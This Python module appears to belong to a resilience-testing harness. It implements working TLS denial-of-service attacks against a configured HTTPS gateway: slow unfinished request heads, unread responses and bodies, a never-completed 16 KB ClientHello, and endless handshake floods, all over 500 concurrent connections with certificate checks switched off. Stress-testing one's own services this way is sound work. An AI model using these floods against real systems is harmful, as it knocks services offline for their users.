"""Attacks on the HTTPS port: each of 500 connections costs a handshake, and the state of TLS."""

import asyncio
import ssl
from contextlib import suppress

from attacks.http import CLOSED, HOLD_SECONDS
from attacks.target import HOST, Target

CONNECTIONS = 500
HELLO = b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + b"\0" * 8_000
"""The beginning of a ClientHello of the longest record; its end never comes."""

_ANYBODY = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # trusts every server
_ANYBODY.check_hostname = False
_ANYBODY.verify_mode = ssl.CERT_NONE


async def tls_unfinished_heads(target: Target) -> None:
    """500 connections that never end the head of their request."""
    await _many(target, b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: " + b"x" * 7_000)


async def tls_unread_responses(target: Target) -> None:
    """500 connections that ask for /openapi.json a hundred times and read nothing."""
    await _many(target, b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 100)


async def tls_unread_bodies(target: Target) -> None:
    """500 connections with heads of 15 KB, and bodies that nobody asked for behind them."""
    head = b"PUT /v1/lists/a HTTP/1.1\r\nHost: a\r\nContent-Length: 9999999\r\n" + b"X: " + b"x" * 7_500
    await _many(target, head + b"\r\nY: " + b"y" * 7_500 + b"\r\n\r\n" + b"z" * 500_000)


async def tls_unfinished_handshakes(target: Target) -> None:
    """500 connections that begin a handshake of 16 KB and never end it."""

    async def one() -> None:
        with suppress(*CLOSED):
            _, writer = await asyncio.open_connection(HOST, target.gateway.port)
            try:
                writer.write(HELLO)
                await writer.drain()
                await asyncio.sleep(HOLD_SECONDS)
            finally:
                writer.close()

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))


async def tls_handshakes(target: Target) -> None:
    """500 handshakes at a time, each on a new connection, for as long as the attack lasts."""

    async def one() -> None:
        while True:
            with suppress(*CLOSED):
                _, writer = await asyncio.open_connection(HOST, target.gateway.port, ssl=_ANYBODY)
                writer.close()

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))


async def _many(target: Target, octets: bytes) -> None:
    """Sends these octets by all connections, once all are open, and reads nothing."""
    everybody = asyncio.Barrier(CONNECTIONS)

    async def one() -> None:
        writer = None
        with suppress(*CLOSED):
            _, writer = await asyncio.open_connection(HOST, target.gateway.port, ssl=_ANYBODY, limit=1)
        await everybody.wait()
        if writer is None:
            return
        with suppress(*CLOSED):
            async with asyncio.timeout(HOLD_SECONDS):
                writer.write(octets)
                await writer.drain()
                await asyncio.sleep(HOLD_SECONDS)
        writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))
